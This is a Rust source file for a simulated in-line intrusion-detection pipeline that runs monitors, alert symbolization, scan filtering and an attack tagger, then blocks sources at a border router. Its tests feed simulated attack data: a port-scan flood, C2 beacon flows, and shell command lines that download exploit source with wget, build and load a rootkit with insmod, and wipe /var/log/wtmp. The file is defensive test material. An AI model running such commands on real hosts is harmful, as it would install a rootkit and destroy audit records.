@@ -1,0 +1,276 @@
+//! The in-line detection pipeline (Fig. 4).
+//!
+//! [`PipelineSink`] plugs into the simulation engine as an [`ActionSink`]:
+//! for every action it runs monitors → symbolization → repeated-scan
+//! filter → online detectors, and on a detection executes the response —
+//! blocking the attacker source at the BHR and notifying operators. The
+//! BHR handle is shared with the border filter, so a block takes effect on
+//! the *next* flow from that source: a genuinely closed loop.
+
+use alertlib::alert::Alert;
+use alertlib::filter::ScanFilter;
+use alertlib::symbolize::Symbolizer;
+use bhr::api::BhrHandle;
+use detect::attack_tagger::AttackTagger;
+use simnet::action::Action;
+use simnet::engine::{ActionSink, EventCtx};
+use simnet::event::EventQueue;
+use simnet::rng::FxHashSet;
+use simnet::time::SimDuration;
+use telemetry::monitor::Monitor;
+use telemetry::record::LogRecord;
+
+use crate::report::{OperatorNotification, RunReport};
+
+/// The pipeline stage counters + the detection loop.
+pub struct PipelineSink {
+    monitors: Vec<Box<dyn Monitor>>,
+    symbolizer: Symbolizer,
+    filter: ScanFilter,
+    tagger: AttackTagger,
+    bhr: BhrHandle,
+    block_on_detection: bool,
+    detection_block_ttl: Option<SimDuration>,
+    blocked: FxHashSet<std::net::Ipv4Addr>,
+    pub report: RunReport,
+    /// Retain filtered alerts for post-run analysis (bounded by caller's
+    /// workload size; disable for the 25 M-alert streaming experiments).
+    pub keep_alerts: bool,
+    pub alerts: Vec<Alert>,
+    // Reused scratch buffers (alloc-free steady state).
+    records_scratch: Vec<LogRecord>,
+    alerts_scratch: Vec<Alert>,
+}
+
+impl PipelineSink {
+    pub fn new(
+        monitors: Vec<Box<dyn Monitor>>,
+        symbolizer: Symbolizer,
+        filter: ScanFilter,
+        tagger: AttackTagger,
+        bhr: BhrHandle,
+        block_on_detection: bool,
+        detection_block_ttl: Option<SimDuration>,
+    ) -> PipelineSink {
+        PipelineSink {
+            monitors,
+            symbolizer,
+            filter,
+            tagger,
+            bhr,
+            block_on_detection,
+            detection_block_ttl,
+            blocked: FxHashSet::default(),
+            report: RunReport::default(),
+            keep_alerts: true,
+            alerts: Vec::new(),
+            records_scratch: Vec::with_capacity(8),
+            alerts_scratch: Vec::with_capacity(8),
+        }
+    }
+
+    /// The shared BHR handle (also used by the border filter).
+    pub fn bhr(&self) -> &BhrHandle {
+        &self.bhr
+    }
+
+    /// Finalize counters into the report (router stats are filled by the
+    /// caller who owns the engine).
+    pub fn finish(&mut self) -> RunReport {
+        self.report.filter = self.filter.stats();
+        self.report.bhr = self.bhr.stats();
+        self.report.blocked_sources = self.blocked.len() as u64;
+        self.report.clone()
+    }
+}
+
+impl ActionSink for PipelineSink {
+    fn on_action(&mut self, ctx: &EventCtx<'_>, action: &Action, _queue: &mut EventQueue<Action>) {
+        self.report.actions += 1;
+        // Stage 1: monitors.
+        self.records_scratch.clear();
+        for m in &mut self.monitors {
+            m.observe(ctx, action, &mut self.records_scratch);
+        }
+        self.report.records += self.records_scratch.len() as u64;
+        // Stage 2: symbolization.
+        self.alerts_scratch.clear();
+        for r in &self.records_scratch {
+            self.symbolizer.symbolize_into(r, &mut self.alerts_scratch);
+        }
+        self.report.alerts += self.alerts_scratch.len() as u64;
+        // Stage 3: repeated-scan filter + online detection + response.
+        for alert in self.alerts_scratch.drain(..) {
+            if !self.filter.admit(&alert) {
+                continue;
+            }
+            self.report.alerts_filtered += 1;
+            if let Some(detection) = self.tagger.observe(&alert) {
+                self.report.detections += 1;
+                // Response and remediation (Fig. 4 part b).
+                if self.block_on_detection {
+                    if let Some(src) = alert.src {
+                        if self.blocked.insert(src) {
+                            self.bhr.block(
+                                ctx.time,
+                                src,
+                                format!("detector: {} at {}", detection.trigger, detection.stage),
+                                self.detection_block_ttl,
+                            );
+                        }
+                    }
+                }
+                self.report.notifications.push(OperatorNotification {
+                    ts: ctx.time,
+                    entity: alert.entity.clone(),
+                    detection: detection.clone(),
+                    message: format!(
+                        "preemption: {} reached stage '{}' (p={:.2}) on alert {}",
+                        alert.entity, detection.stage, detection.score, detection.trigger
+                    ),
+                    source: "attack-tagger".into(),
+                });
+            }
+            if self.keep_alerts {
+                self.alerts.push(alert);
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use alertlib::filter::FilterConfig;
+    use alertlib::symbolize::SymbolizerConfig;
+    use detect::attack_tagger::TaggerConfig;
+    use detect::train::toy_training_model;
+    use simnet::engine::Engine;
+    use simnet::flow::{Flow, FlowId};
+    use simnet::time::SimTime;
+    use simnet::topology::NcsaTopologyBuilder;
+    use telemetry::hostmon::HostMonitor;
+    use telemetry::zeek::ZeekMonitor;
+
+    fn sink() -> PipelineSink {
+        PipelineSink::new(
+            vec![Box::new(ZeekMonitor::with_defaults()), Box::new(HostMonitor::new())],
+            Symbolizer::new(SymbolizerConfig::default()),
+            ScanFilter::new(FilterConfig::default()),
+            AttackTagger::new(toy_training_model(), TaggerConfig::default()),
+            BhrHandle::new(),
+            true,
+            None,
+        )
+    }
+
+    #[test]
+    fn scan_flood_is_filtered_not_detected() {
+        let topo = NcsaTopologyBuilder::default().build();
+        let mut engine = Engine::new(topo, SimTime::EPOCH);
+        for i in 0..500u64 {
+            let t = SimTime::from_secs(i);
+            engine.schedule(
+                t,
+                Action::Flow(Flow::probe(
+                    FlowId(i),
+                    t,
+                    "103.102.1.1".parse().unwrap(),
+                    format!("141.142.2.{}", 1 + (i % 250)).parse().unwrap(),
+                    22,
+                )),
+            );
+        }
+        let mut s = sink();
+        engine.run(&mut [&mut s]);
+        let report = s.finish();
+        assert_eq!(report.actions, 500);
+        assert!(report.alerts >= 500, "each probe symbolizes");
+        assert!(
+            report.alerts_filtered < 20,
+            "scan flood must collapse: {}",
+            report.alerts_filtered
+        );
+        assert_eq!(report.detections, 0, "scans alone must not trigger preemption");
+    }
+
+    #[test]
+    fn detection_blocks_source_at_bhr() {
+        let topo = NcsaTopologyBuilder::default().build();
+        let mut engine = Engine::new(topo, SimTime::EPOCH);
+        // A malicious host session: process records that symbolize into the
+        // S1 chain for one user.
+        let host = simnet::topology::HostId(0);
+        let cmds = [
+            "wget http://64.215.4.5/abs.c",
+            "make -C /lib/modules/4.4/build modules",
+            "insmod rootkit.ko",
+            "echo 0>/var/log/wtmp",
+        ];
+        for (i, c) in cmds.iter().enumerate() {
+            engine.schedule(
+                SimTime::from_secs(10 + i as u64 * 60),
+                Action::Exec(simnet::action::ExecAction {
+                    host,
+                    user: "eve".into(),
+                    pid: 100 + i as u32,
+                    ppid: 1,
+                    exe: "/bin/sh".into(),
+                    cmdline: c.to_string(),
+                }),
+            );
+        }
+        let mut s = sink();
+        engine.run(&mut [&mut s]);
+        let report = s.finish();
+        assert_eq!(report.detections, 1, "S1 chain must be detected once");
+        assert_eq!(report.notifications.len(), 1);
+        let n = &report.notifications[0];
+        assert!(n.message.contains("preemption"));
+        // Host-only alerts carry no src address, so no block is installed —
+        // but the notification still fires.
+        assert_eq!(report.blocked_sources, 0);
+    }
+
+    #[test]
+    fn network_detection_installs_block() {
+        let topo = NcsaTopologyBuilder::default().build();
+        let mut engine = Engine::new(topo, SimTime::EPOCH);
+        // Outbound C2-ish: configure symbolizer with a C2 feed.
+        let mut cfg = SymbolizerConfig::default();
+        cfg.c2_addresses.insert("194.145.22.33".parse().unwrap());
+        let mut s = PipelineSink::new(
+            vec![Box::new(ZeekMonitor::with_defaults())],
+            Symbolizer::new(cfg),
+            ScanFilter::new(FilterConfig::default()),
+            AttackTagger::new(toy_training_model(), TaggerConfig::default()),
+            BhrHandle::new(),
+            true,
+            None,
+        );
+        // Repeated C2 beacons from one internal source push its entity
+        // posterior over the threshold.
+        for i in 0..6u64 {
+            let t = SimTime::from_secs(i * 30);
+            engine.schedule(
+                t,
+                Action::Flow(Flow::established(
+                    FlowId(i),
+                    t,
+                    simnet::time::SimDuration::from_secs(2),
+                    "141.142.77.10".parse().unwrap(),
+                    40_000,
+                    "194.145.22.33".parse().unwrap(),
+                    443,
+                    2_000,
+                    500,
+                )),
+            );
+        }
+        engine.run(&mut [&mut s]);
+        let report = s.finish();
+        assert!(report.detections >= 1, "beaconing must be detected");
+        assert_eq!(report.blocked_sources, 1);
+        assert!(s.bhr().is_blocked(SimTime::from_secs(600), "141.142.77.10".parse().unwrap()));
+    }
+}
